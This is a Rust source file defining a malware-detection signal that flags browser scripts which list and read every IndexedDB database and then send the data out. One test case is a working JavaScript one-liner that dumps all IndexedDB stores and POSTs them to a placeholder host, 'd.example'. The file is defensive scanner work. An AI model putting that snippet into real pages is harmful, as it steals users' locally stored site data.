//! `all-databases-sent`.

use crate::facts::Atom;
use crate::signals::near::Near;
use crate::signals::{Evidence, Held, Signal, one};
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "all-databases-sent",
    description: "The script lists and reads every database this site keeps in the browser, and sends data out.",
    severity: Severity::High,
    classes: ClassSet::MALWARE,
    needs: &[
        one(&[Atom::DatabasesListed]),
        one(&[Atom::SentAbroad, Atom::Post, Atom::PostMethod, Atom::Beacon, Atom::Socket]),
    ],
    within: 250,
    only_if: Some(reads),
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            r#"for(const d of await indexedDB.databases()){const s=await open(d.name);out.push(await all(s.getAll()))}fetch('https://d.example/i',{method:'POST',body:JSON.stringify(out)})"#,
        ],
        without: &[
            r#"for(const d of await indexedDB.databases())indexedDB.deleteDatabase(d.name);fetch('/logout',{method:'POST'})"#,
            r#"const l=await indexedDB.databases();show(l)"#,
        ],
    },
};

fn reads(evidence: &Evidence<'_>, held: Held) -> bool {
    Near::new(evidence, held, 40).has_word(&["getAll", "openCursor"])
}
